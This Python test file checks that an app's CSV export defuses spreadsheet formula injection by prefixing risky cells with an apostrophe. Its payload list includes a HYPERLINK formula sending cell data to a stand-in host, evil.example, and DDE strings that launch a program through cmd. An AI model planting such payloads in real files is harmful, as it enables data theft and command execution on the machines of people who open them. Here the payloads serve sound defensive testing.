"""CSV injection (issue 13, finding 10): no cell focusmate writes reads as a formula."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from hypothesis import given
from hypothesis import strategies as st

from focusmate.core.csv_text import csv_document
from focusmate.core.model import CheckIn, CoachingSession
from focusmate.storage.transfer import export_csv
from tests.fakes import T0

#: OWASP's list of what makes a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Cells a spreadsheet would run, from the review of issue 13 and OWASP's list.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@given(
    st.lists(
        st.lists(st.text(max_size=30) | st.sampled_from(FORMULAS), min_size=1, max_size=5),
        max_size=5,
    )
)
def test_every_cell_reads_back_as_text_never_as_a_formula(rows: list[list[str]]) -> None:
    back = read(csv_document(rows))
    assert len(back) == len(rows)
    for cells, read_cells in zip(rows, back, strict=True):
        for cell, read_cell in zip(cells, read_cells, strict=True):
            assert not read_cell.startswith(FORMULA_STARTS)
            assert read_cell == ("'" + cell if cell.startswith(FORMULA_STARTS) else cell)


def test_a_defused_cell_is_quoted_and_plain_cells_stay_bare() -> None:
    text = csv_document([["=1+1", "Ana", 'say "hi", then', 3, "-"]])
    assert text == '"\'=1+1",Ana,"say ""hi"", then",3,"\'-"\n'


def test_the_sessions_export_defuses_names_notes_and_answers() -> None:
    sessions = [
        CoachingSession(
            f"s{i}",
            formula,
            T0,
            30,
            focus=formula,
            ended_at=T0 + timedelta(minutes=30),
            checkin=CheckIn(intention=formula),
        )
        for i, formula in enumerate(FORMULAS)
    ]
    rows = list(csv.DictReader(io.StringIO(export_csv(sessions), newline="")))
    for formula, row in zip(FORMULAS, rows, strict=True):
        assert row["with"] == row["focus"] == row["intention"] == "'" + formula
